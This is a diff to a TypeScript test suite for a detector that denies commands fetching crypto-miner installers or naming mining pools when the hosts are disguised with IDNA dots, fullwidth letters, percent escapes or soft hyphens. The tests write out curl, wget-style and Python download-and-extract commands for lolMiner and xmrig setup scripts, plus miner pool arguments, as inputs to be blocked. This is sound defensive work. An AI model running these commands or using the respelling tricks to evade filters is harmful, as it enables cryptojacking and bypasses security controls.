@@ -2,11 +2,11 @@
 // listed host: percent escapes in a URL's host, IDNA's other dots (`。` `．` `｡`), fullwidth and
 // compatibility letters, soft hyphens and zero-width characters. What each tool does was checked
 // against curl 7.88.1 (libidn2 2.3.3) and GNU wget 1.21.3 on Debian 12, and Node's and Python's
-// resolvers (docs/detection.md, "Host spellings"). A spelling the tools refuse needs no rule.
+// resolvers (docs/detection.md, "Host spellings"). A spelling every tool refuses needs no rule.
 import { domainToASCII } from 'node:url'
 import fc from 'fast-check'
 import t from 'tap'
-import { hostsAsResolved, mayHaveRespeltHosts, mayMapIntoAsciiHost } from '../../src/detect/host-spellings.ts'
+import { FOLD_COST, hostsAsResolved, mayHaveRespeltHosts, mayMapIntoAsciiHost, READ_COST, RUN_COST } from '../../src/detect/host-spellings.ts'
 import { BUDGET_REFUSAL } from '../../src/detect/review-budget.ts'
 import { compileSignalScanner, type ScannedText, type Signal } from '../../src/detect/signals.ts'
 import { evaluate } from '../../src/engine/evaluate.ts'
@@ -71,9 +71,34 @@ t.test('a pool spelt with IDNA characters is the pool a Node or Python miner loo
   }
 })
 
-t.test('spellings curl refuses, and escapes a miner does not decode, need no rule and add nothing', async (t) => {
-  // curl: "URL using bad/illegal format" (U+2024 is disallowed in IDNA; a decoded `/` is no host character).
-  t.same(findings({ command: ['sh', '-c', `curl -sL https://raw.githubusercontent\u2024com${SETUP} | bash`] }), [])
+const LOLMINER = '/Lolliedieb/lolMiner-releases/releases/download/1.88/lolMiner_v1.88_Lin64.tar.gz'
+
+t.test("dots and a hyphen Python's idna codec (IDNA 2003, NFKC) reads and UTS #46 refuses still name the listed host", async (t) => {
+  // python3.11 -c "print('github\u2024com'.encode('idna'))" gives b'github.com'; urllib looks hosts up so.
+  // U+1806 MONGOLIAN TODO SOFT HYPHEN is mapped to nothing by IDNA 2003 (Node refuses it).
+  for (const host of ['github\u2024com', 'github\ufe52com', 'git\u1806hub.com']) {
+    const script = `import urllib.request as u;u.urlretrieve('https://${host}${LOLMINER}','/opt/l.tgz')`
+    const found = findings({ command: ['python3', '-c', script] })
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(host)}: ${JSON.stringify(found)}`)
+  }
+  const found = findings({ command: ['python3', '/opt/miner.py', '-o', 'pool.supportxmr\ufe52com:443', '-u', 'worker1'] })
+  t.match(found[0]?.message, /\(IDN-mapped\): mining pool "pool\.supportxmr\.com"/, JSON.stringify(found))
+  // `⒈` is `1.` to it.
+  t.equal(hostsAsResolved('-o xmr-eu\u2488nanopool.org:14433'), '-o xmr-eu1.nanopool.org:14433')
+})
+
+t.test('a host after one slash (`https:/host`, which curl 7.88.1 accepts) is a host, not a path segment', async (t) => {
+  for (const url of [`https:/github.com${LOLMINER}`, `https:/github\u3002com${LOLMINER}`, `https:/github%2ecom${LOLMINER}`]) {
+    const found = findings({ command: ['sh', '-c', `curl -sLO ${url} && tar xzf lolMiner_v1.88_Lin64.tar.gz`] })
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(url)}: ${JSON.stringify(found)}`)
+    t.match(found[0]?.message, /downloads a miner installer from "github\.com\/Lolliedieb/, JSON.stringify(url))
+  }
+  t.equal(hostsAsResolved('curl http:/ｌocalhost。x/y'), 'curl http:/localhost.x/y')
+  t.equal(hostsAsResolved('cat /srv/ｌocalhost。x/y'), 'cat /srv/ｌocalhost。x/y', 'after a lone slash it is a path segment')
+})
+
+t.test('a decoded slash, and escapes a miner does not decode, need no rule and add nothing', async (t) => {
+  // curl: "URL using bad/illegal format" (a decoded `/` is no host character).
   t.same(findings({ command: ['sh', '-c', `curl -sL https://raw.githubusercontent.com%2fC3Pool/xmrig_setup/x.sh -o x.sh`] }), [])
   t.equal(hostsAsResolved(`curl https://raw.githubusercontent.com%2fC3Pool/x`, true), `curl https://raw.githubusercontent.com%2fC3Pool/x`)
   // A miner resolves the name as written: `%2e` is no dot to it, and the stratum URL is what counts.
@@ -197,26 +222,49 @@ t.test('the ranges of characters that may fold into an ASCII host hold every one
   t.same(missing, [])
 })
 
-t.test('a pod of a million short fullwidth hosts is refused for the cost of folding them, not read for seconds', async (t) => {
-  const found = findings({ args: ['\uff41\u3002\uff42 '.repeat(200_000)] })
-  t.equal(found[0]?.action, 'deny')
-  t.match(found[0]?.message, BUDGET_REFUSAL)
+t.test('a pod of many short hosts to respell is refused for the cost of reading them', async (t) => {
+  // Each within the budget by its length (scanned and respelt copies together under 4 Mi characters).
+  for (const [unit, count] of [
+    ['\uff41\u3002\uff42 ', 200_000],
+    ['a\u3002b ', 400_000],
+    ['a%2eb ', 400_000],
+    ['a\u00adb.c ', 300_000],
+    ['a\u2024b ', 200_000],
+  ] as const) {
+    const found = findings({ args: [unit.repeat(count)] })
+    t.equal(found[0]?.action, 'deny', JSON.stringify(unit))
+    t.match(found[0]?.message, BUDGET_REFUSAL, JSON.stringify(unit))
+  }
+})
+
+t.test('every run read is charged before it is read: a respelt one more, a folded one more again', async (t) => {
+  const charged = (text: string, percent = false) => {
+    let total = 0
+    hostsAsResolved(text, percent, (characters) => {
+      total += characters
+    })
+    return total
+  }
+  t.equal(charged('ж x a\u3002b a\u00adb.c \uff41\u3002\uff42'), 4 * RUN_COST + 3 * READ_COST + FOLD_COST)
+  t.equal(charged('x%2f a%2eb', true), 2 * (RUN_COST + READ_COST))
+  t.equal(charged('/a\u3002b plain.ascii.text'), 0, 'a path segment and ASCII runs are not read')
 })
 
 t.test('ẞ is read as ss, as curl with libidn2 2.3.3 looks it up (Unicode 16 tables keep ß)', async (t) => {
   t.equal(hostsAsResolved('curl -s http://cla\u1e9e.example/x'), 'curl -s http://class.example/x')
 })
 
-t.test('a character NFKC folds into a dot (U+2024, ⒈, ㏂) makes no host: IDNA refuses it, and the run stays as written', async (t) => {
+t.test('a character NFKC folds into a dot (U+2024, ⒈, ㏂) is read as NFKC reads it, as Python looks it up', async (t) => {
   const folding: string[] = []
   for (let code = 0x80; code <= 0x10ffff; code++) {
     if ((code >= 0xd800 && code <= 0xdfff) || code === 0x3002 || code === 0xff0e || code === 0xff61) continue
     const character = String.fromCodePoint(code)
-    if (!character.normalize('NFKC').includes('.')) continue
+    const folded = character.normalize('NFKC').toLowerCase()
+    if (!folded.includes('.')) continue
     folding.push(code.toString(16))
-    const text = `curl https://raw.github${character}usercontent.com/x`
-    t.equal(hostsAsResolved(text), text, code.toString(16))
-    t.equal(domainToASCII(`raw.github${character}usercontent.com`), '', `Node refuses ${code.toString(16)} too`)
+    // Read as written where the fold holds what no host holds (`⒈` is `1.`, `㏂` is `a.m.`, `…` is `...`).
+    const expected = /^[a-z0-9.-]+$/.test(folded) ? `raw.github${folded}usercontent.com` : `raw.github${character}usercontent.com`
+    t.equal(hostsAsResolved(`curl https://raw.github${character}usercontent.com/x`), `curl https://${expected}/x`, code.toString(16))
   }
   t.ok(folding.length > 20, `${folding.length} such characters`)
 })
